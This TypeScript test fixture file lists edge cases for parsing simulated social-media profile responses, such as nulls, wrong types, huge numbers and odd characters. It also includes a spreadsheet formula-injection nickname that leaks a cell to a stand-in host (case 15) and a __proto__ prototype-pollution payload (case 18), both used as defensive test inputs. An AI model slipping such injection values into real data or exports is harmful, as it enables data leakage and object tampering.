import type { SimulatedPerson } from './person.js'
import { rounded } from './profile.js'

type Json = Record<string, unknown>

/** One unusual answer: a special person, a changed profile, or both. */
interface EdgeCase {
  readonly name: string
  readonly person?: Partial<SimulatedPerson>
  readonly change?: (profile: Json, person: SimulatedPerson) => unknown
}

const LONG_BIO = 1_000_000
/** Far deeper than what is stored, but not too deep for JSON.stringify. */
const DEEP = 2000

function merge(more: Json): (profile: Json) => Json {
  return (profile) => ({ ...profile, ...more })
}

function without(key: string): (profile: Json) => Json {
  return (profile) => Object.fromEntries(Object.entries(profile).filter(([name]) => name !== key))
}

function nested(levels: number): unknown {
  let value: unknown = 'bottom'
  for (let level = 0; level < levels; level += 1) value = { a: value }
  return value
}

/** Replaces the count of one entry of `interactions`. */
function interactionCount(profile: Json, type: string, count: unknown): Json {
  const list = profile['interactions'] as Json[]
  return { ...profile, interactions: list.map((entry) => (entry['type'] === type ? { ...entry, count } : entry)) }
}

/** By the two digits after the marker in an id. */
export const edgeCases: Readonly<Record<string, EdgeCase>> = {
  '01': { name: 'data is null', change: () => null },
  '02': { name: 'data is {}', change: () => ({}) },
  '03': { name: 'no userid', change: without('userid') },
  '04': { name: 'misdelivered: the profile of another user', change: merge({ userid: '5f0000000000000001ffffff' }) },
  '05': {
    name: 'numbers as text',
    person: { fans: 21_263, likes: 65_447, collects: 15_725, notes: 1234, growth: 0 },
    change: (profile) =>
      interactionCount(
        {
          ...profile,
          fans: '2.1万',
          liked: '65,447',
          collected: '1.5w+',
          follows: '10+',
          ndiscovery: '1.2k',
          nboards: '3',
        },
        'fans',
        '2.1万',
      ),
  },
  '06': {
    name: 'share text tenfold against fans',
    person: { fans: 21_263, era: 'usual' },
    change: (profile) => ({
      ...profile,
      share_info_v2: {
        ...(profile['share_info_v2'] as Json),
        content: `粉丝: ${rounded(Number(profile['fans']) * 10)}`,
      },
    }),
  },
  '07': {
    name: 'unknown keys',
    change: (profile) => ({
      ...profile,
      brand_new_key: 'surprise',
      brand_new_object: { inner: [1, 2, { deep: true }] },
      'key.with.dots': 1,
      constructor: 'just a key',
      red_club_info: { ...(profile['red_club_info'] as Json), brand_new_inner: 7 },
      interactions: (profile['interactions'] as Json[]).map((entry) => ({ ...entry, brand_new_item_key: 1 })),
    }),
  },
  '08': {
    name: 'wrong types',
    change: merge({
      desc: { text: 'an object where text belongs' },
      ip_location: ['广东'],
      gender: '1',
      fans: { count: 5 },
      blocked: 'false',
      red_id: 500_000_001,
      tags: 'a text where a list belongs',
      red_club_info: 'a text where an object belongs',
      desc_at_users: [null, 'text', { id: 5, nickname: null }],
    }),
  },
  '09': {
    name: 'null in place of lists',
    change: merge({ tags: null, interactions: null, desc_at_users: null, zhong_tong_bar_info: { conversions: null } }),
  },
  '10': { name: 'seller', person: { seller: true } },
  '11': { name: 'college', person: { college: '云帆示例大学', enrolled: 2018 } },
  '12': { name: 'older account with level 11', person: { era: 'old', level: 11 } },
  '13': {
    name: 'numbers beyond 2^53 and beyond 64 bits',
    change: merge({ fans: 9_007_199_254_740_994, liked: 9_223_372_036_854_774_784, collected: 1e19, follows: 1.5 }),
  },
  '14': {
    name: 'odd characters',
    change: merge({
      nickname: '👩‍👩‍👧‍👦 עברית \u202eRTL\u202c e\u0301',
      desc: 'half \ud83d NUL \u0000 separators \u2028 \u2029 tab \t quotes "\' backslash \\ carriage\r\nreturn \u200b\ufeff',
    }),
  },
  '15': {
    name: 'nickname that is a formula',
    change: merge({ nickname: '=HYPERLINK("https://example.com/?leak="&A1,"点我")', desc: '\n=1+1\n@SUM(A1)\n-2\n+3' }),
  },
  '16': { name: 'bio of a million characters', change: merge({ desc: '长'.repeat(LONG_BIO) }) },
  '17': { name: 'deep nesting', change: (profile) => ({ ...profile, bottomless: nested(DEEP), tags: [nested(DEEP)] }) },
  '18': {
    name: 'key __proto__',
    change: (profile) =>
      Object.defineProperty({ ...profile }, '__proto__', {
        value: { fans: 1, polluted: true },
        enumerable: true,
        configurable: true,
        writable: true,
      }),
  },
  '19': { name: 'older answer: keys absent', person: { era: 'old' } },
  '20': { name: 'newer answer: keys more', person: { era: 'new' } },
  '21': {
    name: 'renamed on night 1',
    person: { name: '旧名字的示例猫', laterName: '新名字的示例猫', renamedOn: 1 },
  },
  '22': {
    name: 'nothing yet: all counts 0',
    person: { fans: 0, likes: 0, collects: 0, notes: 0, follows: 0, growth: 0, seed: 0 },
  },
  '23': { name: 'userid in upper case', change: (profile, { id }) => ({ ...profile, userid: id.toUpperCase() }) },
  '24': { name: 'userid is a number', change: merge({ userid: 500_000_001 }) },
  '25': {
    name: 'null in every field but userid',
    change: (profile) =>
      Object.fromEntries(Object.entries(profile).map(([key, value]) => [key, key === 'userid' ? value : null])),
  },
  '26': { name: 'data is text', change: () => 'user not found' },
  '27': {
    name: 'interaction count ≠ liked + collected',
    change: (profile) => interactionCount(profile, 'interaction', 1),
  },
  '28': { name: 'verified business', person: { verifiedType: 2, verifiedContent: '示例服饰官方账号' } },
  '29': { name: 'only userid', change: (_, { id }) => ({ userid: id }) },
  '30': {
    name: 'hundred thousand unknown keys',
    change: (profile) => ({
      ...profile,
      ...Object.fromEntries(Array.from({ length: 100_000 }, (_, at) => [`unknown_${at}`, at])),
    }),
  },
  '31': {
    name: 'counts that nobody can have',
    change: merge({ fans: -21_263, liked: 12_000_000_000, ndiscovery: -1 }),
  },
}
